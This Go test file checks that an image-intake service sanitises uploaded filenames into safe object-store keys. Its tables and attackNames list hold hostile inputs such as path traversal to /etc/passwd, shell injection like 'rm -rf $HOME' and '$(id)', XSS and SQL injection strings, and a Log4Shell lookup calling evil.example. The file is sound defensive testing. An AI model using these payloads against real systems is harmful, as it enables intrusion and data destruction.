package intake

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/unicode/norm"

	"github.com/imagebatch/imagebatch/shared/objectstore"
)

func TestOriginalFilename(t *testing.T) {
	for _, tc := range []struct {
		name, url string
		index     int
		want      string
	}{
		{"vacation.jpg", "https://example.com/photo.jpg", 0, "vacation.jpg"},
		{"../../etc/passwd", "", 0, "../../etc/passwd"},
		{"a\x00b\r\nc\u202egpj.exe\u2028", "", 0, "abcgpj.exe"},
		{"", "https://example.com/a/photo1.jpg?x=1#y", 0, "photo1.jpg"},
		{"", "https://example.com/a/caf%C3%A9%20noir.jpg", 0, "café noir.jpg"},
		{"", "https://example.com/a%2Fb.png", 0, "a/b.png"},
		{"", "https://example.com/my photo%2B1.jpg", 0, "my photo+1.jpg"},
		{"", "https://example.com/o/images%2Füber 100%.jpg?x=/y#/z", 0, "images/über 100%.jpg"},
		{"", "https://bücher.example/a+b.jpg", 0, "a+b.jpg"},
		{"", "https://example.com/", 2, "image-3"},
		{"", "https://example.com", 0, "image-1"},
		{"", "https://example.com/%00%0a", 0, "image-1"},
		{"", "http://[bad", 6, "image-7"},
		{"", "", 99, "image-100"},
		{" \t ", "", 0, "image-1"},
		{"\xff\xfe.jpg", "", 0, "\uFFFD.jpg"},
		{strings.Repeat("ä", 600), "", 0, strings.Repeat("ä", 512)},
	} {
		if got := originalFilename(tc.name, tc.url, tc.index); got != tc.want {
			t.Errorf("originalFilename(%q, %q, %d) = %q, want %q", tc.name, tc.url, tc.index, got, tc.want)
		}
	}
}

func TestKeyName(t *testing.T) {
	for _, tc := range []struct{ name, ext, want string }{
		{"image1.jpg", ".jpg", "image1.jpg"},
		{"IMAGE.JPG", ".jpg", "IMAGE.JPG"},
		{"scan.jpeg", ".jpg", "scan.jpeg"},
		{"photo", ".jpg", "photo.jpg"},
		{"photo.png", ".jpg", "photo.jpg"},
		{"photo.jpg", ".png", "photo.png"},
		{"report.v2", ".png", "report.v2.png"},
		{"shell.php", ".jpg", "shell.php.jpg"},
		{"x.svg", ".png", "x.png"},
		{"photo.", ".jpg", "photo..jpg"},
		{"../../etc/passwd", ".jpg", "_._.._etc_passwd.jpg"},
		{`..\..\boot.ini`, ".png", "_._.._boot.ini.png"},
		{"/etc/passwd\x00.jpg", ".jpg", "_etc_passwd_.jpg"},
		{"..", ".jpg", "_..jpg"},
		{".", ".jpg", "_.jpg"},
		{"", ".jpg", "image.jpg"},
		{"", "", "image"},
		{"   ", ".png", "image.png"},
		{".jpg", ".jpg", "image.jpg"},
		{".htaccess", ".jpg", "_htaccess.jpg"},
		{" .a", ".jpg", "_a.jpg"},
		{"a b (1)+c_d-e.jpg", ".jpg", "a b (1)+c_d-e.jpg"},
		{"фото 写真 صورة.png", ".png", "фото 写真 صورة.png"},
		{"cafe\u0301.jpg", ".jpg", "café.jpg"},
		{"हिन्दी.jpg", ".jpg", "हिन्दी.jpg"},
		{"💩;rm -rf $HOME|`id`.jpg", ".jpg", "__rm -rf _HOME__id_.jpg"},
		{"<script>alert(1)</script>.jpg", ".jpg", "_script_alert(1)__script_.jpg"},
		{"a\r\nSet-Cookie: x.jpg", ".jpg", "a__Set-Cookie_ x.jpg"},
		{"\u202Egpj.exe", ".jpg", "_gpj.exe.jpg"},
		{"C:\\con", ".jpg", "C__con.jpg"},
		{"100%2e%2e%2f.jpg", ".jpg", "100_2e_2e_2f.jpg"},
		{"\xff\xfe.jpg", ".jpg", "_.jpg"},
		{strings.Repeat("a", 300) + ".jpeg", ".jpg", strings.Repeat("a", 195) + ".jpeg"},
		{strings.Repeat("ä", 150), ".png", strings.Repeat("ä", 98) + ".png"},
		{"a\u00a0b\u3000c.jpg", ".jpg", "a_b_c.jpg"},
	} {
		if got := KeyName(tc.name, tc.ext); got != tc.want {
			t.Errorf("KeyName(%q, %q) = %q, want %q", tc.name, tc.ext, got, tc.want)
		}
	}
}

// attackNames are file names with a special meaning to file systems, shells, terminals,
// headers or web pages.
var attackNames = []string{
	"../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\a.jpg", "\\\\evil.example\\share\\a.jpg", "..", ".", "./a.jpg", "a/../../b.jpg", "....//....//a.jpg",
	"%2e%2e%2fa.jpg", "..%c0%af..%c0%afa.jpg", "..／..／a.jpg", "․․/a.jpg", "a.jpg/", "/", "//", "~root/.ssh/authorized_keys", ".htaccess", ".jpg", "-rf", "--help", "|id", "`id`.jpg", "$(id).jpg", "a;id.jpg", "a&&id.jpg",
	"a\x00.jpg", "a\x00b/../c.jpg", "a\r\nSet-Cookie: a=b.jpg", "a\nb.jpg", "a\tb.jpg", "\x1b[2Ja.jpg", "\x07a.jpg", "\x7fa.jpg", "\u0085a.jpg", "\u2028a.jpg",
	"\u202egpj.exe", "a\u2066b\u2069.jpg", "\u200f\u200ea.jpg", "\u061ca.jpg", "\u200b\u200ba.jpg", "\ufeffa.jpg", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A.jpg", "ﷺ.jpg", "👩‍👩‍👧‍👦.jpg", "é.jpg", "İı.jpg",
	`a".jpg`, `a"; filename="b.exe`, "a';b.jpg", `"><script>alert(1)</script>.jpg`, "<img src=x onerror=alert(1)>.jpg", "' OR 1=1 --.jpg", "'; DROP TABLE jobs; --", "${jndi:ldap://evil.example/a}.jpg", "{{7*7}}.jpg", "%s%s%n.jpg",
	"=cmd|'/c calc'!A1", "CON", "nul.jpg", "aux.png", "COM1.jpg", "a.jpg ", " a.jpg", "a.jpg.", "a.php", "a.php.jpg", "a.html", "a.svg", "a.jpg;.php", "a.jpg::$DATA", "a:b.jpg", "a*?.jpg",
	strings.Repeat("a", 1024), strings.Repeat("é", 512), strings.Repeat("a/", 500) + "a.jpg", strings.Repeat(".", 1000), strings.Repeat("a", 250) + ".jpg", strings.Repeat("../", 300) + "a",
}

// TestAttackNames verifies that neither the object key nor the filename that the API shows
// contains a dangerous part of a hostile name.
func TestAttackNames(t *testing.T) {
	for _, name := range attackNames {
		t.Run(fmt.Sprintf("%.60q", name), func(t *testing.T) {
			for _, ext := range []string{"", ".jpg", ".png"} {
				checkKeyName(t, name, ext)
			}
			shown := originalFilename(name, "", 0)
			if strings.ContainsFunc(shown, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' }) {
				t.Errorf("shown as %q", shown)
			}
		})
	}
}

func FuzzKeyName(f *testing.F) {
	for _, s := range append(attackNames, "", "a/b.jpg", " .x", "é.png", "\xff", "a. .jpg", "\u0301.jpg", "\u1100\u1161.jpe") {
		f.Add(s, ".jpg")
		f.Add(s, ".png")
		f.Add(s, "")
	}
	f.Fuzz(func(t *testing.T, name, ext string) {
		if ext != ".jpg" && ext != ".png" {
			ext = ""
		}
		checkKeyName(t, name, ext)
	})
}

// checkKeyName verifies that a key name is one safe element of an object key and that KeyName
// is idempotent.
func checkKeyName(t *testing.T, name, ext string) {
	t.Helper()
	unsafe := func(r rune) bool {
		return !unicode.IsLetter(r) && !unicode.IsDigit(r) && !unicode.IsMark(r) && !strings.ContainsRune(" ._-()+", r)
	}
	got := KeyName(name, ext)
	if again := KeyName(name, ext); again != got {
		t.Fatalf("KeyName(%q, %q) = %q, and again %q", name, ext, got, again)
	}
	if again := KeyName(got, ext); again != got {
		t.Fatalf("KeyName(%q, %q) is not normalized: %q, then %q", name, ext, got, again)
	}
	if err := objectstore.CheckKey("0123456789abcdef0123456789abcdef/" + got); err != nil {
		t.Fatalf("KeyName(%q, %q) = %q is not a key element: %v", name, ext, got, err)
	}
	switch {
	case len(got) > maxKeyNameBytes, strings.ContainsRune(got, '/'), strings.HasPrefix(got, "."), !utf8.ValidString(got),
		strings.ContainsFunc(got, unsafe), !norm.NFC.IsNormalString(got), strings.TrimSpace(got) != got,
		ext != "" && !fits(strings.ToLower(got[strings.LastIndexByte(got, '.'):]), ext):
		t.Fatalf("KeyName(%q, %q) = %q", name, ext, got)
	}
}
